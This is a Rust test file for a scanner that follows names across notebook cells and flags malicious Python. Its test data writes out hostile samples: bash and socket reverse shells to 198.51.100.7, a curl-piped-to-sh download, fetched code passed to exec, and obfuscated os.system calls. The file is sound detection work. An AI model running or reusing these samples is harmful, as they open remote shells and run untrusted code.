//! A notebook is one program, whose names live from cell to cell.

use bastide_code::{Remark, notebook};
use bastide_types::Assessment;

/// Of each cell, the worst that is said.
fn worst(cells: &[&str]) -> Vec<Option<Assessment>> {
    let of_cell = |remarks: &Vec<Remark>| remarks.iter().map(|remark| remark.rule.effect).max();
    notebook(cells).iter().map(of_cell).collect()
}

#[test]
fn a_name_that_one_cell_gives_another_uses() {
    for cells in [
        &["import os as o", "run = o.system", "run('bash -i >& /dev/tcp/198.51.100.7/1 0>&1')"][..],
        &["import base64", "d = base64.b64decode", "text = d('cHJpbnQoMSk=')", "exec(text)"],
        &["from subprocess import *", "c = ['bash', '-c', 'curl http://198.51.100.7/a | sh']", "Popen(c)"],
        &["import requests\nr = requests.get('http://198.51.100.7/a')", "code = r.text", "exec(code)"],
        &["def run(c):\n    exec(c)", "import urllib.request as u", "run(u.urlopen('http://x').read())"],
        &[
            "import socket, os\ns = socket.socket()",
            "s.connect(('198.51.100.7', 1))",
            "os.dup2(s.fileno(), 0)",
        ],
        &["g = getattr", "m = __import__('o' + 's')", "g(m, 'sys' + 'tem')('id')"],
        &["import builtins", "e = vars(builtins)['ex' + 'ec']", "x = 1", "e('print(1)')"],
    ] {
        assert!(worst(cells).contains(&Some(Assessment::Malicious)), "{cells:?}");
        assert_eq!(worst(&cells[..1]).pop().flatten().filter(|w| *w == Assessment::Malicious), None);
    }
}

#[test]
fn a_broken_cell_breaks_no_other() {
    let cells = ["import os", "print((((", "os.system('bash -i >& /dev/tcp/198.51.100.7/1 0>&1')", "'''"];
    assert_eq!(worst(&cells).get(2), Some(&Some(Assessment::Malicious)));
}

#[test]
fn remarks_say_their_cell_and_line() {
    let found =
        notebook(&["x = 1\ny = 2\n", "z = 3\n\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))"]);
    let [first, second] = found.as_slice() else { panic!("two cells: {found:?}") };
    assert!(first.is_empty());
    assert!(second.iter().all(|remark| remark.line == 3 && remark.offset == 7), "{second:?}");
    assert!(!second.is_empty());
}

#[test]
fn honest_notebooks_are_clean() {
    for cells in [
        &["def train(x):\n    return x", "import os\nos.system('touch done')", "!nvidia-smi", "train(1)"][..],
        &["import os", "!pip install torch", "os.environ['A'] = '1'", "%matplotlib inline\nimport torch"],
    ] {
        assert!(
            worst(cells).iter().all(|worst| *worst <= Some(Assessment::Clean)),
            "{cells:?}: {:?}",
            worst(cells)
        );
    }
    assert!(notebook(&[]).is_empty());
}
